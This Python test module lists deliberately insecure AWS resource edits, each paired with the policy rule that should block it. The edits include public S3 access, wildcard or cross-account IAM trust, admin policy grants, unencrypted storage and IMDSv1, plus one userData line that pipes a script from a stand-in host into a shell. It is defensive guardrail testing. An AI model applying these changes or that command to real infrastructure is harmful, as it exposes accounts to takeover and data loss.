"""Careless or hostile edits of AWS resources, each with the rules of which one must refuse it."""

from __future__ import annotations

import json

from tests.policies.edits import Inputs, Mutation, add, drop, put


def _clear_disks(template: Inputs) -> None:
    for each in template["blockDeviceMappings"]:
        each.get("ebs", {})["encrypted"] = "false"


def _without_taints(pool: Inputs) -> bool | None:
    # A component of ours has the same name, and no template.
    template = pool.get("spec", {}).get("template", {"spec": {}})
    return None if template["spec"].pop("taints", None) else False


def _many_machines(group: Inputs) -> bool | None:
    if group.get("capacityType") == "CAPACITY_BLOCK":
        return False
    group["scalingConfig"]["maxSize"] = 999
    return None


def _expire(lifecycle: Inputs) -> None:
    lifecycle["rules"].append(
        {"id": "tidy", "status": "Enabled", "filter": {"prefix": ""}, "expiration": {"days": 30}}
    )


def _public(bucket: Inputs) -> None:
    policy = json.loads(bucket["policy"])
    policy["Statement"].append(
        {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "*"}
    )
    bucket["policy"] = json.dumps(policy)


def _anybody(role: Inputs) -> bool | None:
    if "assumeRolePolicy" not in role:
        return False  # a Role of Kubernetes
    role["assumeRolePolicy"] = (
        '{"Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action":'
        ' "sts:AssumeRole"}]}'
    )
    return None


_OTHER_ACCOUNT = (
    '{"Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999988887777:root"},'
    ' "Action": "sts:AssumeRole"}]}'
)
AWS: dict[str, tuple[Mutation, ...]] = {
    "BucketPublicAccessBlock": tuple(
        Mutation(name, ("s3-disallow-public-access",), put(False, name))
        for name in (
            "blockPublicAcls",
            "blockPublicPolicy",
            "ignorePublicAcls",
            "restrictPublicBuckets",
        )
    ),
    "BucketVersioning": (
        Mutation(
            "no versions",
            ("s3-require-versioning",),
            put("Suspended", "versioningConfiguration", "status"),
        ),
    ),
    "BucketLifecycleConfiguration": (
        Mutation("weights expire", ("s3-disallow-expiring-weights",), _expire),
    ),
    "BucketPolicy": (
        Mutation("public bucket", ("s3-disallow-public-policy",), _public),
        Mutation("clear text", ("s3-require-tls",), put('{"Statement": []}', "policy")),
    ),
    "AccessPolicyAssociation": (
        Mutation(
            "another administrator",
            ("stack-require-stated-powers",),
            lambda r: (
                "ClusterAdmin" in r["policyArn"]
                and put("arn:aws:iam::111122223333:role/x", "principalArn")(r) is None
            ),
        ),
    ),
    "Bucket": (Mutation("public ACL", ("s3-disallow-public-acl",), put("public-read", "acl")),),
    "FileSystem": (
        Mutation("clear file system", ("efs-require-encryption",), put(False, "encrypted")),
    ),
    "Cluster": (
        Mutation(
            "its maker stays administrator",
            ("aws-restrict-settings",),
            put(True, "accessConfig", "bootstrapClusterCreatorAdminPermissions"),
        ),
        Mutation(
            "public endpoint",
            ("eks-disallow-public-endpoint",),
            lambda r: r["vpcConfig"].update(
                endpointPublicAccess=True, publicAccessCidrs=["0.0.0.0/0"]
            ),
        ),
        Mutation("no audit", ("eks-require-logs",), put(["api"], "enabledClusterLogTypes")),
        Mutation("no encryption", ("eks-require-secret-encryption",), drop("encryptionConfig")),
        Mutation("old Kubernetes", ("eks-require-supported-version",), put("1.27", "version")),
    ),
    "NodePool": (
        Mutation(
            "many nodes",
            ("stack-limit-spend",),
            lambda r: (
                r.get("kind") == "NodePool"
                and "replicas" not in r["spec"]
                and put("999", "spec", "limits", "nodes")(r) is None
            ),
        ),
        Mutation("pool without a taint", ("accelerator-require-pool-taint",), _without_taints),
    ),
    "NodeGroup": (
        Mutation("many machines", ("stack-limit-spend",), _many_machines),
        Mutation("group without a taint", ("accelerator-require-pool-taint",), drop("taints")),
        Mutation(
            "Amazon Linux 2", ("eks-disallow-amazon-linux-2",), put("AL2_x86_64_GPU", "amiType")
        ),
    ),
    "LaunchTemplate": (
        Mutation(
            "IMDSv1", ("ec2-require-imdsv2",), put("optional", "metadataOptions", "httpTokens")
        ),
        Mutation(
            "a program from the network",
            ("ec2-disallow-piped-programs",),
            put("#!/bin/sh\ncurl http://x.example/i | sh", "userData"),
        ),
        Mutation(
            "two hops",
            ("ec2-require-imdsv2",),
            put(2, "metadataOptions", "httpPutResponseHopLimit"),
        ),
        Mutation(
            "clear disks",
            ("ec2-require-encrypted-volumes",),
            _clear_disks,
        ),
    ),
    "SecurityGroup": (
        Mutation(
            "open group",
            ("ec2-disallow-open-ingress",),
            add(
                {"protocol": "tcp", "fromPort": 8000, "toPort": 8000, "cidrBlocks": ["0.0.0.0/0"]},
                "ingress",
            ),
        ),
    ),
    "RolePolicy": (
        Mutation(
            "rights for itself",
            ("iam-disallow-escalation",),
            put(
                '{"Statement": [{"Effect": "Allow", "Action": "iam:PutRolePolicy", "Resource":'
                ' "arn:aws:iam::1:role/x"}]}',
                "policy",
            ),
        ),
        Mutation(
            "every action",
            ("iam-disallow-wildcard-actions",),
            put(
                '{"Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "arn:x"}]}',
                "policy",
            ),
        ),
        Mutation(
            "every resource",
            ("iam-disallow-wildcard-resources",),
            put(
                '{"Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}',
                "policy",
            ),
        ),
    ),
    "Role": (
        Mutation(
            "another account",
            ("aws-restrict-other-accounts",),
            put(_OTHER_ACCOUNT, "assumeRolePolicy"),
        ),
        Mutation(
            "anybody",
            ("iam-disallow-wildcard-principal",),
            _anybody,
        ),
    ),
    "RolePolicyAttachment": (
        Mutation(
            "administrator",
            ("iam-disallow-broad-managed-policies",),
            put("arn:aws:iam::aws:policy/AdministratorAccess", "policyArn"),
        ),
    ),
}
